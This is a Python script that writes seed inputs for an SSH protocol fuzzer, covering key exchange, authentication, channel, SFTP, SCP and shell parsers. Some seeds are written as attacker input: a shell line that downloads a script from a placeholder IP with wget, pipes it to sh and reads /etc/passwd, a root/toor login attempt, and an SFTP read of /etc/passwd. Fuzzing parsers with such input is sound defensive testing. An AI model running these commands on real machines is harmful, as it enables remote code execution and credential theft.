"""Writes seed inputs for palisade-ssh-fuzz (one per parser) into the directory given.

usage: seeds.py DIRECTORY
The first byte of an input picks the parser (see Fuzz/SSHFuzz/FuzzEntry.swift); the rest is what
a client would send it. Valid inputs give the fuzzer a path into each parser's deeper states.
"""
import os
import struct
import sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def string(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack(">I", len(b)) + b


def packet(payload):
    padding = 8 - (len(payload) + 5) % 8
    if padding < 4:
        padding += 8
    return struct.pack(">IB", len(payload) + padding + 1, padding) + payload + bytes(padding)


def framed(payloads):
    # Mode 1 and 2: each payload preceded by (its length - 1) in one byte.
    return b"".join(bytes([len(p) - 1]) + p for p in payloads if 0 < len(p) <= 256)


kexinit = bytes([20]) + bytes(16) + b"".join(string(x) for x in [
    "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256,ext-info-c,kex-strict-c-v00@openssh.com",
    "ssh-ed25519,rsa-sha2-512", "chacha20-poly1305@openssh.com,aes128-ctr", "chacha20-poly1305@openssh.com,aes128-ctr",
    "hmac-sha2-256-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "none", "none", "", ""]) + bytes(5)
seeds = {
    "kex": b"\x00" + packet(kexinit) + packet(bytes([30]) + string(bytes(32))),
    "userauth": b"\x01" + framed([
        bytes([50]) + string("root") + string("ssh-connection") + string("none"),
        bytes([50]) + string("root") + string("ssh-connection") + string("password") + b"\x00" + string("toor"),
    ]),
    "keyboard": b"\x01" + framed([
        bytes([50]) + string("root") + string("ssh-connection") + string("keyboard-interactive") + string("") + string(""),
        bytes([61]) + struct.pack(">I", 1) + string("toor"),
    ]),
    "publickey": b"\x01" + framed([
        bytes([50]) + string("root") + string("ssh-connection") + string("publickey") + b"\x01" + string("ssh-ed25519")
        + string(string("ssh-ed25519") + string(bytes(32))) + string(string("ssh-ed25519") + string(bytes(64))),
    ]),
    "channels": b"\x02" + framed([
        bytes([90]) + string("session") + struct.pack(">III", 0, 1 << 20, 32768),
        bytes([98]) + struct.pack(">I", 0) + string("pty-req") + b"\x01" + string("xterm") + struct.pack(">IIII", 80, 24, 0, 0) + string(""),
        bytes([98]) + struct.pack(">I", 0) + string("exec") + b"\x01" + string("uname -a"),
        bytes([94]) + struct.pack(">I", 0) + string("id\n"),
        bytes([93]) + struct.pack(">II", 0, 4096),
        bytes([80]) + string("tcpip-forward") + b"\x01" + string("0.0.0.0") + struct.pack(">I", 8080),
        bytes([97]) + struct.pack(">I", 0),
    ]),
    "sftp": b"\x03" + b"".join(string(p) for p in [
        bytes([1]) + struct.pack(">I", 3),
        bytes([16]) + struct.pack(">I", 1) + string("."),
        bytes([3]) + struct.pack(">I", 2) + string("/tmp/x") + struct.pack(">II", 0x1A, 0),
        bytes([6]) + struct.pack(">I", 3) + string("0") + struct.pack(">Q", 0) + string("payload"),
        bytes([4]) + struct.pack(">I", 4) + string("0"),
        bytes([11]) + struct.pack(">I", 5) + string("/etc"),
        bytes([12]) + struct.pack(">I", 6) + string("1"),
        bytes([17]) + struct.pack(">I", 7) + string("/etc/passwd"),
    ]),
    "scp": b"\x04" + b"D0755 0 kit\nT1 0 1 0\nC0644 5 a.sh\nhello\x00E\n",
    "kexinit": b"\x05" + kexinit[1:],
    "shell": b"\x06" + b"cd /tmp; wget http://203.0.113.9/x.sh -O- | sh; cat /etc/passwd | grep root | wc -l > /dev/null",
    "moduli": b"\x07" + b"20230801000000 2 6 100 2047 2 " + b"F" * 512 + b"\n",
}
for name, data in seeds.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
print(f"{len(seeds)} seeds in {out}")
